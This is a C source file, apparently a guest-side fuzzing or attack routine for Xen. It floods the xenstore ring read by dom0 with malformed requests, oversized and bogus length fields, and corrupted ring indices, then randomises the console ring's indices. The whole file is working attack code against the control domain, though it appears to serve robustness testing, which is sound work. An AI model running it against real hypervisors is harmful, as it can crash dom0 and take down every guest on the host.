/* Writes nonsense to the rings that dom0 reads. */
#include "attack.h"

static struct store_ring *ring;
static u64 seed;

static u32 random(void) { seed = seed * 6364136223846793005ul + 1; return seed >> 33; }

static void send(const void *data, u32 bytes) {
    for (const char *p = data; bytes; bytes--) {
        for (u64 end = now() + 50000000; ring->req_prod - *(volatile u32 *)&ring->req_cons >= 1024;) {
            event_send(start_info->store_evtchn);
            *(volatile u32 *)&ring->rsp_cons = *(volatile u32 *)&ring->rsp_prod;
            if (now() > end) return;
            hypercall(HYPERVISOR_sched_op, SCHEDOP_yield, 0, 0, 0);
        }
        ring->req[ring->req_prod & 1023] = *p++;
        barrier();
        ring->req_prod++;
    }
}

void attack_rings(void) {
    static const char *const paths[] = {"a", "/", "//", "a/", "/local/domain/0", "@releaseDomain", "data/x", "../..",
        "/local/domain/1/data", "memory/target", "a\0b", "/vm", "control/shutdown", "/tool", "-", "data/y/z/w"};
    static char body[4200];
    u64 sent = 0, end = now() + option("seconds", 3) * 1000000000;
    seed = option("seed", 1);
    ring = map_frame(start_info->store_mfn, 2);
    while (now() < end) {
        u32 r = random(), n = length(paths[(r >> 5) % 16]) + 1;
        copy_bytes(body, paths[(r >> 5) % 16], n);
        u32 more = (r >> 9) % 4 == 0 ? (r >> 11) % 3900 : (r >> 11) % 30;
        for (u32 i = 0; i < more; i++) body[n + i] = 'A' + (i + r) % 20;
        if (r & 1) body[n + more++] = 0;
        struct { u32 type, request, transaction, bytes; } header = {r % 24, r, r % 7 ? 0 : r % 20, n + more > 4096 ? 4096 : n + more};
        u32 bytes = header.bytes;
        if (r % 5003 == 0) header.bytes = 0xffffffff;
        send(&header, sizeof header);
        send(body, bytes);
        event_send(start_info->store_evtchn);
        sent++;
        if (r % 3001 == 0) ring->req_prod += 5000;
        if (r % 3503 == 0) ring->rsp_cons -= 4000;
    }
    print("END sent %u\n", sent);
    wait_ms(50);
    struct console_ring *c = map_frame(start_info->console_mfn, 1);
    for (u32 i = 0; i < 20000; i++) {
        c->out_prod = random();
        c->in_cons = random();
        if (i & 1) c->out_cons = random();
        event_send(start_info->console_evtchn);
    }
}
